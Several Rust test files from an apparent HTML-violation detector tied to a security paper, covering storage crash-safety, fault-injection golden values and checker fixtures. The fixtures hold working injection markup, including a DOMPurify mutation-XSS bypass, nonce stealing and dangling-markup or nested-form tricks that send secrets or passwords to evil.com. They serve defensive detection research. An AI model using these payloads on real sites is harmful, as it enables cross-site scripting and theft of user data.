        .expect("style");
    assert_eq!(doc.dom.element(style).unwrap().ns, Namespace::MathMl);
}

#[test]
fn plain_html_survives_round_trips_unchanged() {
    // Sanitizer round trips must be fixpoints for benign markup — this is
    // what makes serialize-reparse auto-fixing (§4.4) safe.
    for benign in [
        "<p>hello <b>world</b></p>",
        "<table><tr><td>a</td><td>b</td></tr></table>",
        "<svg viewBox=\"0 0 1 1\"><path d=\"M0 0\"></path></svg>",
        "<ul><li>one<li>two</ul>",
        "<form action=\"/s\"><input name=\"q\"></form>",
    ] {
        let once = sanitize_pass(benign);
        let twice = sanitize_pass(&once);
        assert_eq!(once, twice, "round trip must converge for {benign}");
    }
}

#[test]
fn mutated_output_reports_namespace_violation() {
    // After mutation, re-checking the document surfaces the MathML
    // breakout (HF5_3): exactly what a strict parser would reject.
    let mutated = sanitize_pass(PAYLOAD);
    let report = Battery::full().run_str(&mutated);
    assert!(
        report.has(ViolationKind::HF5_3) || report.has(ViolationKind::HF5_1),
        "expected a namespace violation on the mutated markup: {:?}",
        report.findings
    );
}
