//! Crash-safety integration tests for the v1 store.
//!
//! The durability contract under test: a crash at *any* byte leaves a
//! valid prefix (magic + header + N complete segments), and resuming from
//! that prefix reproduces the uninterrupted store byte for byte.
//!
//! Three attack surfaces:
//! 1. [`FailingWriter`] swept across every byte budget of a small
//!    synthetic store — the writer must surface a structured error (never
//!    panic), the sink must hold exactly the allowed prefix, and
//!    [`StoreWriter::resume`] + a replay of the remaining work must
//!    reproduce the reference bytes.
//! 2. Exhaustive torn-tail truncation of the same store at every offset —
//!    [`scan_prefix`] keeps exactly the segments fully contained in the
//!    prefix, strict loads fail, partial loads never panic.
//! 3. Proptest-sampled truncation of the migrated v0 fixture (a real scan
//!    output), the same invariants at realistic scale.

use html_violations::hv_core::{HvError, MitigationFlags, ViolationKind};
use html_violations::hv_corpus::Snapshot;
use html_violations::hv_pipeline::format::read_v1;
use html_violations::hv_pipeline::{
    scan_prefix, DomainYearRecord, ErrorClass, FailingWriter, LoadOptions, QuarantineEntry,
    ResultStore, Resumed, ScanMetrics, SegmentSummary, StoreSink, StoreWriter,
};
use proptest::prelude::*;
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::OnceLock;

const FIXTURE: &str = "tests/fixtures/store_v0.json";
const SEED: u64 = 7;
const SCALE: f64 = 0.5;
const UNIVERSE: usize = 64;

/// A unique temp path per call, so cases never collide.
fn temp_path(tag: &str) -> PathBuf {
    static SEQ: AtomicU64 = AtomicU64::new(0);
    let n = SEQ.fetch_add(1, Ordering::Relaxed);
    std::env::temp_dir().join(format!("hv-crash-{}-{tag}-{n}", std::process::id()))
}

fn record(domain: u64, snap: u8, kinds: &[ViolationKind]) -> DomainYearRecord {
    let kinds: BTreeSet<ViolationKind> = kinds.iter().copied().collect();
    DomainYearRecord {
        domain_id: domain,
        domain_name: format!("d{domain}.example"),
        rank: domain as u32 + 1,
        snapshot: Snapshot(snap),
        pages_found: 4,
        pages_analyzed: 3,
        page_counts: kinds.iter().map(|&k| (k, 2)).collect(),
        kinds: kinds.clone(),
        mitigations: MitigationFlags::default(),
        kinds_after_autofix: BTreeSet::new(),
        uses_math: false,
        pages_faulted: 0,
        pages_degraded: 0,
        pages_quarantined: 1,
    }
}

fn qentry(domain: u64, snap: u8, page: usize) -> QuarantineEntry {
    QuarantineEntry {
        domain_id: domain,
        snapshot: Snapshot(snap),
        page_index: page,
        url: format!("https://d{domain}.example/p{page}"),
        class: ErrorClass::TransientIo,
    }
}

/// The synthetic write plan: three segments (one empty, one carrying an
/// embedded quarantine frame), a metrics block, and a leftover quarantine
/// entry whose snapshot has no segment (standalone block). Together they
/// cover every block tag the writer can emit.
fn plan() -> Vec<(Snapshot, Vec<DomainYearRecord>, Vec<QuarantineEntry>)> {
    vec![
        (
            Snapshot(0),
            vec![record(1, 0, &[ViolationKind::FB2]), record(2, 0, &[])],
            vec![qentry(2, 0, 3)],
        ),
        (Snapshot(3), Vec::new(), Vec::new()),
        (Snapshot(7), vec![record(1, 7, &[ViolationKind::DM3])], Vec::new()),
    ]
}

fn leftover() -> Vec<QuarantineEntry> {
    vec![qentry(9, 5, 0)]
}

/// Drive a writer through the full plan — the exact byte sequence every
/// sweep case must reproduce a prefix of.
fn write_plan<W: StoreSink>(
    mut w: StoreWriter<W>,
    skip: &BTreeSet<Snapshot>,
) -> Result<Vec<SegmentSummary>, HvError> {
    for (snap, records, quarantine) in plan() {
        if skip.contains(&snap) {
            continue;
        }
        w.write_segment(snap, &records, &quarantine)?;
    }
    w.write_metrics(&ScanMetrics::default())?;
    w.write_quarantine(&leftover())?;
    w.finish()
}

/// The uninterrupted store's bytes — the ground truth for every crash.
fn reference_bytes() -> &'static [u8] {
    static BYTES: OnceLock<Vec<u8>> = OnceLock::new();
    BYTES.get_or_init(|| {
        let mut buf = Vec::new();
        let w = StoreWriter::new(&mut buf, Path::new("mem"), SEED, SCALE, UNIVERSE).unwrap();
        write_plan(w, &BTreeSet::new()).unwrap();
        buf
    })
}

/// Injected I/O failure at every byte budget: the error is structured, the
/// sink holds exactly the allowed prefix, and resume + replay reproduces
/// the uninterrupted bytes.
#[test]
fn failing_writer_sweep_resumes_identically_at_every_byte() {
    let reference = reference_bytes();
    let mem = Path::new("mem");
    for budget in 0..reference.len() {
        let mut buf = Vec::new();
        let result =
            StoreWriter::new(FailingWriter::new(&mut buf, budget), mem, SEED, SCALE, UNIVERSE)
                .and_then(|w| write_plan(w, &BTreeSet::new()));
        assert!(result.is_err(), "budget {budget}: short write must surface an error");
        assert_eq!(buf, reference[..budget], "budget {budget}: sink must hold the exact prefix");

        // The prefix is always scannable: only whole segments survive.
        let state = scan_prefix(&buf, mem).expect("prefix of a valid store must scan");
        assert!(!state.complete, "budget {budget}: a truncated store is never complete");
        assert!(state.valid_end as usize <= budget);
        assert!(state.segment_ends.iter().all(|&e| e as usize <= budget));

        // Crash-at-budget then resume must reproduce the reference bytes.
        let path = temp_path("sweep.hvs");
        std::fs::write(&path, &buf).unwrap();
        match StoreWriter::resume(&path, SEED, SCALE, UNIVERSE).unwrap() {
            Resumed::Complete { .. } => panic!("budget {budget}: truncated store marked complete"),
            Resumed::Partial { writer, truncated } => {
                assert_eq!(truncated, budget as u64 - state.valid_end);
                let done: BTreeSet<Snapshot> =
                    writer.completed().iter().map(|s| s.snapshot).collect();
                write_plan(writer, &done).unwrap();
            }
        }
        assert_eq!(
            std::fs::read(&path).unwrap(),
            reference,
            "budget {budget}: resumed store must be byte-identical"
        );
        std::fs::remove_file(&path).ok();
    }
}

/// Torn-tail truncation at every offset: scan_prefix keeps exactly the
/// segments fully contained in the prefix — never a torn one, never
/// fewer than what is whole — strict loads fail, partial loads survive.
#[test]
fn torn_tail_truncation_at_every_offset() {
    let reference = reference_bytes();
    let mem = Path::new("mem");
    let full = scan_prefix(reference, mem).unwrap();
    assert!(full.complete);
    assert_eq!(full.segments.len(), 3, "the plan writes three segments");

    for cut in 0..reference.len() {
        let data = &reference[..cut];
        let state = scan_prefix(data, mem)
            .unwrap_or_else(|e| panic!("cut {cut}: prefix must stay scannable: {e}"));
        let whole = full.segment_ends.iter().filter(|&&e| e as usize <= cut).count();
        assert_eq!(
            state.segments.len(),
            whole,
            "cut {cut}: exactly the fully-contained segments survive"
        );
        assert!(!state.complete);
        assert!(
            read_v1(data, mem, LoadOptions::default()).is_err(),
            "cut {cut}: strict load of a truncated store must fail"
        );
        // Partial load may succeed or fail depending on where the cut
        // lands; it must never panic, and what it keeps must parse.
        if let Ok(contents) = read_v1(data, mem, LoadOptions { allow_partial: true }) {
            assert!(contents.segments.len() <= whole + 1);
        }
    }
}

/// The migrated v0 fixture as v1 bytes — a real scan output, the
/// realistic-scale target for sampled truncation.
fn fixture_bytes() -> &'static [u8] {
    static BYTES: OnceLock<Vec<u8>> = OnceLock::new();
    BYTES.get_or_init(|| {
        let store = ResultStore::load(Path::new(FIXTURE)).unwrap();
        let path = temp_path("fixture.hvs");
        store.save_v1(&path).unwrap();
        let bytes = std::fs::read(&path).unwrap();
        std::fs::remove_file(&path).ok();
        bytes
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(192))]

    /// The migrated v0 fixture, truncated at sampled offsets: the same
    /// torn-tail invariants hold at realistic scale.
    #[test]
    fn fixture_truncation_is_safe_at_sampled_offsets(raw in any::<u32>()) {
        let bytes = fixture_bytes();
        let mem = Path::new("mem");
        let full = scan_prefix(bytes, mem).unwrap();
        prop_assert!(full.complete);
        let cut = raw as usize % bytes.len();
        let data = &bytes[..cut];
        let state = scan_prefix(data, mem)
            .unwrap_or_else(|e| panic!("cut {cut}: prefix must stay scannable: {e}"));
        let whole = full.segment_ends.iter().filter(|&&e| e as usize <= cut).count();
        prop_assert_eq!(state.segments.len(), whole, "cut {}", cut);
        prop_assert!(read_v1(data, mem, LoadOptions::default()).is_err());
        let _ = read_v1(data, mem, LoadOptions { allow_partial: true });
    }
}

/// A wrong-magic file is never truncated by resume — refusing to destroy
/// a file that was never ours is part of the durability contract.
#[test]
fn resume_refuses_foreign_files() {
    let path = temp_path("foreign.bin");
    std::fs::write(&path, b"definitely not a store, hands off").unwrap();
    let before = std::fs::read(&path).unwrap();
    let err = match StoreWriter::resume(&path, SEED, SCALE, UNIVERSE) {
        Err(e) => e,
        Ok(_) => panic!("resume accepted a foreign file"),
    };
    assert!(err.to_string().contains("magic"), "unexpected error: {err}");
    assert_eq!(std::fs::read(&path).unwrap(), before, "foreign file must be untouched");
    std::fs::remove_file(&path).ok();
}

/// Resume checks provenance: a store written under different scan
/// parameters is refused, not silently extended with foreign records.
#[test]
fn resume_refuses_mismatched_provenance() {
    let path = temp_path("provenance.hvs");
    let sink = html_violations::hv_pipeline::FileSink::create(&path).unwrap();
    let w = StoreWriter::new(sink, &path, SEED, SCALE, UNIVERSE).unwrap();
    write_plan(w, &BTreeSet::new()).unwrap();

    let err = match StoreWriter::resume(&path, SEED + 1, SCALE, UNIVERSE) {
        Err(e) => e,
        Ok(_) => panic!("resume accepted mismatched provenance"),
    };
    assert!(err.to_string().contains("refusing to resume"), "unexpected error: {err}");
    std::fs::remove_file(&path).ok();
}
