//! Integration: every concrete HTML snippet printed in the paper, pushed
//! through the full stack (decoder → parser → checker battery), asserting
//! the violation kinds the paper associates with it.

use html_violations::prelude::*;

/// Local one-shot: shadows the deprecated prelude shim of the same name so
/// the 15 payload tests below stay on the supported [`Battery`] path.
fn check_page(page: &str) -> PageReport {
    Battery::full().run_str(page)
}

fn kinds(page: &str) -> Vec<&'static str> {
    let report = check_page(page);
    let mut ids: Vec<&'static str> = report.kinds().iter().map(|k| k.id()).collect();
    ids.sort_unstable();
    ids
}

#[test]
fn figure1_initial_payload() {
    // The DOMPurify bypass payload: the broken table (HF4) is what moves
    // the foreign elements around.
    let page = concat!(
        "<math><mtext><table><mglyph><style><!--</style>",
        "<img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"
    );
    let report = check_page(page);
    assert!(report.has(ViolationKind::HF4), "{:?}", report.findings);
}

#[test]
fn figure2_nonce_stealing() {
    let page = "<script src=\"https://evil.com/x.js\" inj=\"\n\
        <p>The brown fox jumps over the lazy dog</p>\n\
        <script id=\"in-action\" nonce=\"the-rnd-nonce\">\n// do something...\n</script>";
    let report = check_page(page);
    assert!(report.has(ViolationKind::DE3_2));
    assert!(report.mitigations.script_in_attribute);
}

#[test]
fn figure3_textarea_injection() {
    let page = "<form action=\"https://evil.com\">\n\
        <input type=\"submit\"><textarea>\n<p>My little secret</p>\n...";
    let report = check_page(page);
    assert!(report.has(ViolationKind::DE1));
}

#[test]
fn figure4_content_before_body() {
    let page = "<!DOCTYPE html><html><head></head><p\n<body onload=\"checkSecurity()\">rest";
    let report = check_page(page);
    assert!(report.has(ViolationKind::HF2), "{:?}", report.findings);
    // The absorbed body means its onload never exists in the DOM.
    let doc = parse_document(page);
    let body = doc.dom.find_html("body").unwrap();
    assert!(doc.dom.element(body).unwrap().attr("onload").is_none());
}

#[test]
fn figure5_target_injection() {
    let page = "<a href=\"https://evil.com\">click me</a>\n\
        <base target='\n<p>secret</p></div id='a'></div>";
    let report = check_page(page);
    assert!(report.has(ViolationKind::DE3_3), "{:?}", report.findings);
}

#[test]
fn figure7_validator_breaker_is_fully_analyzed() {
    // The paper's Figure 7 breaks the W3C validator mid-document; our
    // checker battery must keep going and still report the table problem.
    let page = "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<title>Test</title>\n\
        <meta charset=\"UTF-8\">\n</head>\n<body>\n\
        <math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">\n\
        </body>\n</html>";
    let report = check_page(page);
    assert!(report.has(ViolationKind::HF4), "{:?}", report.findings);
    // And the checkers processed content up to the end (EOF textarea-style
    // swallowing did not hide the closing tags).
    assert!(!report.has(ViolationKind::DE1));
}

#[test]
fn figure11_cozi_table() {
    let page = "<table>\n<tr><strong>Cozi Organizer</strong></tr>\n<tr>\n\
        <td>The #1 organizing app for ...</td>\n\
        <td> <img src=\"...\" align=\"right\"></td>\n</tr>\n</table>";
    assert!(kinds(page).contains(&"HF4"));
}

#[test]
fn figure12_google_404() {
    let page = "<!DOCTYPE html>\n<html lang=en>\n<meta charset=utf-8>\n\
        <meta name=viewport content=\"initial-scale=1, minimum-scale=1, width=device-width\">\n\
        <title>Error 404 (Not Found)!!1</title>\n<style>*{margin:0}</style>\n\
        <a href=//www.google.com/><span id=logo aria-label=Google></span></a>\n\
        <p><b>404.</b> <ins>That’s an error.</ins>\n\
        <p>The requested URL <code>/xxx</code> was not found on this server. <ins>That’s all we know.</ins>";
    let report = check_page(page);
    assert!(report.has(ViolationKind::HF1), "missing head tags: {:?}", report.findings);
}

#[test]
fn figure13_all_four_cases() {
    // Lines 1–4: copy-pasted nested forms.
    let forms = "<form method=\"get\" action=\"/search/\">\n\
        <form id=\"keywordsearch\" name=\"keywordsearch\" method=\"get\" action=\"/search\">\n\
        <input name=\"q\" type=\"text\" placeholder=\"Search jobs by keyword...\"/ >";
    let r = check_page(forms);
    assert!(r.has(ViolationKind::DE4), "{:?}", r.findings);
    // The `/ >` at the end is FB1's solidus-as-whitespace.
    assert!(r.has(ViolationKind::FB1));

    // Line 6: iframe missing its `>`.
    assert!(kinds(r#"<iframe src="https://foobar"</iframe>"#).contains(&"FB2"));

    // Line 8: quote inside a quoted value.
    assert!(kinds("<option value='Cote d'Ivoire'>").contains(&"FB2"));

    // Line 10: nested double quotes break the onClick.
    let onclick = r#"<a href="/x" target="_blank" onClick="img=new Image();img.src="/foo?cl=16796306";">x</a>"#;
    assert!(kinds(onclick).contains(&"FB1"));
}

#[test]
fn figure14_duplicate_alt() {
    let page = r#"<img src="product.jpg" alt="" class="thumb" alt="Product photo">"#;
    assert!(kinds(page).contains(&"DM3"));
}

#[test]
fn figure15_meta_redirect() {
    let page = "<html><head>Redirection</head>\n\
        <META HTTP-EQUIV=\"Refresh\" CONTENT=\"0; URL=HTTP://wds.iea.org/wds\">\n\
        <body>Page has moved <a href=\"http://wds.iea.org/wds\">here </a></body>\n</html>";
    let r = check_page(page);
    assert!(r.has(ViolationKind::DM1), "{:?}", r.findings);
    // "Redirection" as head text is also a broken head.
    assert!(r.has(ViolationKind::HF1));
}

#[test]
fn section_3_2_fb_examples() {
    assert!(kinds(r#"<img/src="x"/onerror="alert('XSS')">"#).contains(&"FB1"));
    assert!(kinds(r#"<img src="users/injection"onerror="alert('XSS')">"#).contains(&"FB2"));
}

#[test]
fn section_3_2_dm3_example() {
    let page = r#"<div id="injection" onclick="evil()" onclick="benign()">x</div>"#;
    let doc = parse_document(page);
    let div = doc.dom.find_html("div").unwrap();
    // "the following element only recognizes the evil onclick handler"
    assert_eq!(doc.dom.element(div).unwrap().attr("onclick"), Some("evil()"));
    assert!(kinds(page).contains(&"DM3"));
}

#[test]
fn section_3_2_de2_select_strips_tags() {
    // "<p id=private>secret</p> inside the select element is transformed
    // to secret"
    let page = "<select><option>a</option><p id=private>secret</p></select>";
    let doc = parse_document(page);
    let select = doc.dom.find_html("select").unwrap();
    assert!(doc.dom.descendants(select).all(|id| !doc.dom.is_html(id, "p")));
    assert!(doc.dom.text_content(select).contains("secret"));
}

#[test]
fn de3_1_dangling_markup_url() {
    let page = "<img src='http://evil.com/?content=\n<p>My secret</p>' alt=x>";
    assert!(kinds(page).contains(&"DE3_1"));
}

#[test]
fn de4_injected_form_controls_submission() {
    let page = "<form action=\"https://evil.com\"><form action=\"/login\" method=\"post\">\
        <input name=\"user\"><input name=\"pass\" type=\"password\"></form>";
    let doc = parse_document(page);
    let forms: Vec<_> = doc.dom.all_elements().filter(|&id| doc.dom.is_html(id, "form")).collect();
    assert_eq!(forms.len(), 1, "the nested form start tag is dropped");
    assert_eq!(doc.dom.element(forms[0]).unwrap().attr("action"), Some("https://evil.com"));
    // The password field now submits to evil.com.
    let pass = doc
        .dom
        .all_elements()
        .find(|&id| doc.dom.element(id).unwrap().attr("type") == Some("password"))
        .unwrap();
    assert!(doc.dom.is_inclusive_ancestor(forms[0], pass));
}
