//! Golden fixture pinning fault-injection *classification*.
//!
//! Every fault is a pure function of `(seed, page)`, so the quarantine set
//! and the fault counters for a fixed corpus + plan are exact constants —
//! any drift means the injector's keyed draws, the retry policy, or the
//! outcome classification changed, all of which silently invalidate stored
//! chaos baselines. The expected list was captured from the implementation
//! that introduced fault injection and must only change deliberately (run
//! the `dump_golden` test below and review the diff).

use html_violations::hv_corpus::{Archive, CorpusConfig, FaultPlan, Snapshot};
use html_violations::hv_pipeline::{run, ErrorClass, ResultStore};

const CORPUS_SEED: u64 = 41;
const SCALE: f64 = 0.0005;
const FAULT_SEED: u64 = 9;
const RATE: f64 = 0.05;

fn scan() -> ResultStore {
    let archive = Archive::new(CorpusConfig { seed: CORPUS_SEED, scale: SCALE });
    let opts = run::ScanOptions::new()
        .threads(4)
        .collect_metrics(true)
        .inject_faults(FaultPlan::new(FAULT_SEED, RATE).unwrap());
    run::scan_snapshots(&archive, &[Snapshot::ALL[5]], opts)
}

/// (domain_id, page_index, class) for every quarantined page, in the
/// store's canonical order.
fn expected_quarantine() -> Vec<(u64, usize, ErrorClass)> {
    use ErrorClass::*;
    vec![
        (0, 29, TruncatedRecord),
        (0, 47, TransientIo),
        (1, 0, TruncatedRecord),
        (2, 24, TransientIo),
        (3, 5, OversizedBody),
        (3, 11, MalformedCdx),
        (3, 45, MalformedCdx),
        (4, 19, OversizedBody),
        (4, 39, CorruptCompression),
        (4, 42, TruncatedRecord),
        (5, 31, TransientIo),
        (5, 42, TruncatedRecord),
        (5, 60, CorruptCompression),
        (6, 42, CorruptCompression),
        (6, 65, TruncatedRecord),
        (6, 83, TruncatedRecord),
        (6, 89, TruncatedRecord),
        (7, 37, TransientIo),
        (7, 88, CorruptCompression),
        (7, 98, TruncatedRecord),
        (9, 22, TruncatedRecord),
        (9, 70, TruncatedRecord),
        (10, 1, CorruptCompression),
        (10, 52, MalformedCdx),
        (10, 57, TruncatedRecord),
        (10, 74, TruncatedRecord),
        (11, 5, MalformedCdx),
        (11, 16, TruncatedRecord),
        (11, 25, TruncatedRecord),
        (11, 46, CorruptCompression),
        (11, 61, CorruptCompression),
        (11, 66, TruncatedRecord),
        (11, 71, OversizedBody),
    ]
}

#[test]
fn golden_quarantine_classification_is_pinned() {
    let store = scan();
    let got: Vec<(u64, usize, ErrorClass)> =
        store.quarantine.iter().map(|q| (q.domain_id, q.page_index, q.class)).collect();
    assert_eq!(got, expected_quarantine(), "fault classification moved");

    // URLs stay attached: spot-check the first entry end to end.
    let first = &store.quarantine[0];
    assert_eq!(first.url, "https://alphalabs.com/page/29.html");
    assert_eq!(first.snapshot, Snapshot::ALL[5]);
}

#[test]
fn golden_fault_counters_are_pinned() {
    let store = scan();
    let f = store.metrics.as_ref().expect("metrics collected").faults;
    assert_eq!(f.injected, 43, "faults injected");
    assert_eq!(f.retries, 16, "transient retries");
    assert_eq!(f.backoff_nanos, 0, "default policy backs off immediately");
    assert_eq!(f.degraded, 5, "pages degraded");
    assert_eq!(f.quarantined, 33, "pages quarantined");
    assert_eq!(f.panics_caught, 0, "injected faults never panic the parser");
    assert_eq!(f.invalid_utf8_injected, 5, "utf-8 faults flow to the §4.1 filter");
    assert_eq!(f.malformed_cdx, 4);
    assert_eq!(f.transient_io, 4);
    assert_eq!(f.truncated_record, 15);
    assert_eq!(f.corrupt_compression, 7);
    assert_eq!(f.oversized_body, 3);
    assert_eq!(f.parser_panic, 0);

    // The per-class counters partition the quarantine count.
    let by_class = f.malformed_cdx
        + f.transient_io
        + f.truncated_record
        + f.corrupt_compression
        + f.oversized_body
        + f.parser_panic;
    assert_eq!(by_class, f.quarantined);
}

#[test]
#[ignore = "dev tool: run with --ignored --nocapture to regenerate the expected list"]
fn dump_golden() {
    let store = scan();
    for q in &store.quarantine {
        println!("({}, {}, {:?}),", q.domain_id, q.page_index, q.class);
    }
    println!("faults: {:#?}", store.metrics.as_ref().unwrap().faults);
}
