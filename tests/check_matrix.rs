//! Per-[`ViolationKind`] fixture matrix and fused-vs-legacy equivalence.
//!
//! Every one of the twenty kinds gets a positive fixture (a page that must
//! trigger exactly that rule) and a negative fixture (a near-miss that must
//! not). On top of the matrix, the fused dispatch engine is checked to be
//! *report-identical* to the pre-fusion per-rule scans
//! (`hv_core::checkers::legacy`) — on every fixture and on
//! property-generated HTML soup.

use html_violations::hv_core::checkers::legacy;
use html_violations::hv_core::CheckContext;
use html_violations::prelude::*;
use proptest::prelude::*;

/// (kind, fires-on, must-not-fire-on). Negatives are near-misses for the
/// same rule, not blank pages.
const MATRIX: &[(ViolationKind, &str, &str)] = &[
    (
        ViolationKind::DE1,
        "<body><form action=\"https://evil.com\"><input type=\"submit\"><textarea>\n<p>My little secret</p>",
        "<body><textarea>text</textarea><p>after</p></body>",
    ),
    (
        ViolationKind::DE2,
        "<body><select><option>a\n<p>secret</p>",
        "<body><select><option>a</option></select><p>x</p></body>",
    ),
    (
        ViolationKind::DE3_1,
        "<body><img src='http://evil.com/?content=\n<p>secret</p>'></body>",
        "<body><a href=\"/a\n/b\">newline but no lt</a></body>",
    ),
    (
        ViolationKind::DE3_2,
        "<body><input value=\"<SCRIPT src=x>\"></body>",
        "<body><input value=\"script\"></body>",
    ),
    (
        ViolationKind::DE3_3,
        "<body><a href=\"https://evil.com\">click</a><base target='\n<p>secret</p>' ></body>",
        "<body><a href=\"/x\" target=\"_blank\">l</a></body>",
    ),
    (
        ViolationKind::DE4,
        "<body><form action=\"https://evil.com\"><form action=\"/real\"><input name=q></form></body>",
        "<body><form action=/a></form><form action=/b></form></body>",
    ),
    (
        ViolationKind::DM1,
        "<html><head>t</head>\n<META HTTP-EQUIV=\"Refresh\" CONTENT=\"0; URL=//x\">\n<body></body></html>",
        "<!DOCTYPE html><head><meta http-equiv=\"refresh\" content=\"0\"><title>t</title></head><body></body>",
    ),
    (
        ViolationKind::DM2_1,
        "<!DOCTYPE html><head><title>t</title></head><body><base href=\"https://evil.com/\"></body>",
        "<!DOCTYPE html><head><base href=\"/b/\"><title>t</title></head><body></body>",
    ),
    (
        ViolationKind::DM2_2,
        "<!DOCTYPE html><head><base href=\"/a/\"><base href=\"/b/\"><title>t</title></head><body></body>",
        "<!DOCTYPE html><head><base href=\"/a/\"><title>t</title></head><body></body>",
    ),
    (
        ViolationKind::DM2_3,
        "<!DOCTYPE html><head><link rel=\"stylesheet\" href=\"s.css\"><base href=\"/b/\"></head><body></body>",
        "<!DOCTYPE html><head><base href=\"/b/\"><link rel=\"stylesheet\" href=\"s.css\"></head><body></body>",
    ),
    (
        ViolationKind::DM3,
        "<div id=\"injection\" onclick=\"evil()\" onclick=\"benign()\">x</div>",
        "<img src=\"p.jpg\" alt=\"a\" title=\"b\">",
    ),
    (
        ViolationKind::HF1,
        "<!DOCTYPE html><head><div class=modal>x</div><meta charset=utf-8></head><body></body>",
        "<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>",
    ),
    (
        ViolationKind::HF2,
        "<!DOCTYPE html><html><head></head><p\n<body onload=\"checkSecurity()\">content",
        "<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>",
    ),
    (
        ViolationKind::HF3,
        "<!DOCTYPE html><head></head><body class=a><p>x</p><body onload=evil()></body>",
        "<!DOCTYPE html><head></head><body class=a><p>x</p></body>",
    ),
    (
        ViolationKind::HF4,
        "<!DOCTYPE html><html><head><title>t</title></head><body><table><tr><strong>ad</strong></tr><tr><td>x</td></tr></table></body></html>",
        "<!DOCTYPE html><html><head><title>t</title></head><body><table><tr><td>x</td></tr></table></body></html>",
    ),
    (
        ViolationKind::HF5_1,
        "<!DOCTYPE html><html><head><title>t</title></head><body><path d=\"M0 0L10 10\"></path></body></html>",
        "<!DOCTYPE html><html><head><title>t</title></head><body><svg viewBox=\"0 0 1 1\"><path d=\"M0 0\"></path></svg></body></html>",
    ),
    (
        ViolationKind::HF5_2,
        "<!DOCTYPE html><html><head><title>t</title></head><body><svg><rect width=1></rect><div>broke</div></svg></body></html>",
        "<!DOCTYPE html><html><head><title>t</title></head><body><svg><rect width=1></rect></svg></body></html>",
    ),
    (
        ViolationKind::HF5_3,
        "<!DOCTYPE html><html><head><title>t</title></head><body><math><mrow><img src=x></mrow></math></body></html>",
        "<!DOCTYPE html><html><head><title>t</title></head><body><math><mrow>x</mrow></math></body></html>",
    ),
    (
        ViolationKind::FB1,
        "<img/src=\"x\"/onerror=\"alert('XSS')\">",
        "<input name=\"q\" type=\"text\" />",
    ),
    (
        ViolationKind::FB2,
        "<img src=\"users/injection\"onerror=\"alert('XSS')\">",
        "<img src=\"a.png\" alt=\"a\" title=\"b\">",
    ),
];

#[test]
fn matrix_covers_every_kind_once() {
    let mut kinds: Vec<_> = MATRIX.iter().map(|(k, _, _)| *k).collect();
    kinds.sort_unstable();
    kinds.dedup();
    assert_eq!(kinds.len(), ViolationKind::ALL.len());
}

#[test]
fn every_kind_fires_on_its_positive_fixture() {
    let mut battery = Battery::full();
    for (kind, positive, _) in MATRIX {
        let r = battery.run_str(positive);
        assert!(r.has(*kind), "{kind} missing on positive fixture: {:?}", r.findings);
    }
}

#[test]
fn no_kind_fires_on_its_negative_fixture() {
    let mut battery = Battery::full();
    for (kind, _, negative) in MATRIX {
        let r = battery.run_str(negative);
        assert!(!r.has(*kind), "{kind} fired on negative fixture: {:?}", r.findings);
    }
}

/// The fused engine's report — findings *and* mitigation flags — must be
/// identical to the pre-fusion per-rule scans on every fixture.
#[test]
fn fused_engine_is_report_identical_to_legacy_on_fixtures() {
    let mut battery = Battery::full();
    for (_, positive, negative) in MATRIX {
        for page in [positive, negative] {
            let cx = CheckContext::new(page);
            let fused = battery.run(&cx);
            let old = legacy::run(&cx);
            assert_eq!(fused.findings, old.findings, "fixture: {page}");
            assert_eq!(fused.mitigations, old.mitigations, "fixture: {page}");
        }
    }
}

/// HTML-ish soup: same generator shape as tests/properties.rs, biased
/// toward the constructs the rules inspect.
fn html_soup() -> impl Strategy<Value = String> {
    let atom = prop_oneof![
        Just("<".to_owned()),
        Just(">".to_owned()),
        Just("\n".to_owned()),
        Just("\"".to_owned()),
        Just("'".to_owned()),
        Just("<!DOCTYPE html>".to_owned()),
        Just("<head>".to_owned()),
        Just("</head>".to_owned()),
        Just("<body onload=x>".to_owned()),
        Just("<base href=/b>".to_owned()),
        Just("<meta http-equiv=refresh content=0>".to_owned()),
        Just("<a href=".to_owned()),
        Just("<img src=x ".to_owned()),
        Just("src=y".to_owned()),
        Just("target='".to_owned()),
        Just("<script".to_owned()),
        Just("<form>".to_owned()),
        Just("<table><tr>".to_owned()),
        Just("<td>".to_owned()),
        Just("<select><option>".to_owned()),
        Just("<textarea>".to_owned()),
        Just("<svg>".to_owned()),
        Just("<math><mtext>".to_owned()),
        Just("<path>".to_owned()),
        Just("<div".to_owned()),
        Just("/".to_owned()),
        "[a-z =]{0,10}".prop_map(|s| s),
    ];
    proptest::collection::vec(atom, 0..48).prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(192))]

    /// Equivalence under fire: arbitrary documents produce the same report
    /// from the fused pass and the twenty independent scans.
    #[test]
    fn fused_engine_matches_legacy_on_soup(input in html_soup()) {
        let cx = CheckContext::new(&input);
        let fused = Battery::full().run(&cx);
        let old = legacy::run(&cx);
        prop_assert_eq!(&fused.findings, &old.findings);
        prop_assert_eq!(fused.mitigations, old.mitigations);
    }
}
