//! ResultStore v2 integration: golden migration from the checked-in v0
//! fixture, v1 round-trip and oracle-equivalence properties, and the
//! single-byte corruption property.
//!
//! The fixture `tests/fixtures/store_v0.json` is a real scan output
//! (`hva scan --seed 2024 --scale 0.002`) frozen in the v0 JSON format.
//! Every store ever written must keep loading — and every experiment must
//! render byte-identically whether the store arrives as v0 JSON, as a
//! migrated v1 binary, or as a live in-memory index.

use html_violations::hv_core::{MitigationFlags, ViolationKind};
use html_violations::hv_corpus::Snapshot;
use html_violations::hv_pipeline::{
    aggregate, AggregateIndex, DomainYearRecord, IndexedStore, LoadOptions, QuarantineEntry,
    ResultStore, ScanMetrics, StoreFormat,
};
use html_violations::hv_report;
use proptest::prelude::*;
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::OnceLock;

const FIXTURE: &str = "tests/fixtures/store_v0.json";

/// A unique temp path per call, so proptest cases never collide.
fn temp_path(tag: &str) -> PathBuf {
    static SEQ: AtomicU64 = AtomicU64::new(0);
    let n = SEQ.fetch_add(1, Ordering::Relaxed);
